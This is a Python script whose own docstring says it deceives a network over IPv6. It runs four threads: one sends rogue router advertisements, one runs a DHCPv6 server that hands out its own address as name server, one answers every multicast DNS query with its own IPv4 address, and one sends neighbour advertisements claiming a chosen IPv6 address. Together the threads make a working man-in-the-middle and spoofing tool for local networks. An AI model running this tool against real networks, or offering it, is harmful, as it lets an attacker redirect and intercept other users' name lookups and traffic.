# SPDX-License-Identifier: Apache-2.0
"""
Deceives a network by IPv6: advertises itself as a router that says to ask by DHCPv6, answers who
asks with itself as the name server, answers every name that multicast DNS asks for, and says that
ADDRESS is its own.

usage: SECONDS OWN_IPV4 ADDRESS
   or: SECONDS lamps          advertises only a way to what is behind it, as loudspeakers do
"""
import pathlib
import socket
import struct
import sys
import threading
import time

INTERFACE = "eth0"
ALL_NODES, DHCP_SERVERS = "ff02::1", "ff02::1:2"
ICMP_ADVERTISEMENT, ICMP_NEIGHBOUR = 134, 136
SOLICIT, ADVERTISE, REPLY = 1, 2, 7
CLIENT_ID, SERVER_ID, NAME_SERVERS, DOMAINS = 1, 2, 23, 24

end = time.monotonic() + float(sys.argv[1])
mac = bytes.fromhex(pathlib.Path(f"/sys/class/net/{INTERFACE}/address").read_text()
                    .strip().replace(":", ""))
index = socket.if_nametoindex(INTERFACE)


def link_local():
    for line in pathlib.Path("/proc/net/if_inet6").read_text().splitlines():
        address, _, _, _, _, interface = line.split()
        if interface == INTERFACE and address.startswith("fe80"):
            return bytes.fromhex(address)
    raise SystemExit("no link-local address")


own6 = link_local()
own6_text = socket.inet_ntop(socket.AF_INET6, own6)


def icmp():
    sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
    sock.bind((own6_text, 0, 0, index))
    return sock


def own_mac(kind):
    return bytes([kind, 1]) + mac


def advertise(flags, options):
    sock = icmp()
    while time.monotonic() < end:
        sock.sendto(struct.pack("!BBHBBHII", ICMP_ADVERTISEMENT, 0, 0, 64, flags, 0, 0, 0) +
                    own_mac(1) + options, (ALL_NODES, 0, 0, index))
        time.sleep(8)


def claim(address):
    sock = icmp()
    while time.monotonic() < end:
        # Of a router, overriding what was known.
        sock.sendto(struct.pack("!BBHI", ICMP_NEIGHBOUR, 0, 0, 0xa0000000) +
                    socket.inet_pton(socket.AF_INET6, address) + own_mac(2),
                    (ALL_NODES, 0, 0, index))
        time.sleep(2)


def option(code, value):
    return struct.pack("!HH", code, len(value)) + value


def client_id(message):
    at = 4
    while at + 4 <= len(message):
        code, length = struct.unpack_from("!HH", message, at)
        if code == CLIENT_ID:
            return message[at + 4:at + 4 + length]
        at += 4 + length
    return b""


def serve():
    sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
                    socket.inet_pton(socket.AF_INET6, DHCP_SERVERS) + struct.pack("@I", index))
    sock.bind(("::", 547))
    answer = option(SERVER_ID, b"\0\3\0\1" + mac) + option(NAME_SERVERS, own6)
    while time.monotonic() < end:
        message, who = sock.recvfrom(1500)
        kind = ADVERTISE if message[0] == SOLICIT else REPLY
        sock.sendto(bytes([kind]) + message[1:4] + option(CLIENT_ID, client_id(message)) + answer,
                    who)


def answer_names(own4):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("", 5353))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                    socket.inet_aton("224.0.0.251") + socket.inet_aton(own4))
    while time.monotonic() < end:
        asked, _ = sock.recvfrom(1500)
        flags, questions = struct.unpack_from("!HH", asked, 2)
        name = asked[12:asked.find(b"\0", 12) + 1]
        if flags & 0x8000 or questions != 1 or b"\x04_tcp" in name:
            continue
        sock.sendto(struct.pack("!6H", 0, 0x8400, 0, 1, 0, 0) + name +
                    struct.pack("!HHIH", 1, 0x8001, 120, 4) + socket.inet_aton(own4),
                    ("224.0.0.251", 5353))


def main():
    if sys.argv[2] == "lamps":
        # RFC 4191 2.3: a route to a network of its own, of low preference.
        route = bytes([24, 2, 64, 0x18]) + struct.pack("!I", 1800) + bytes.fromhex("fd00000000000001")
        advertise(0, route)
        return
    # Addresses and other settings are to be had; preferred to other routers.
    for work, words in ((advertise, (0xc8, b"")), (claim, (sys.argv[3],)), (serve, ()),
                        (answer_names, (sys.argv[2],))):
        threading.Thread(target=work, args=words, daemon=True).start()
    time.sleep(max(0, end - time.monotonic()))


main()
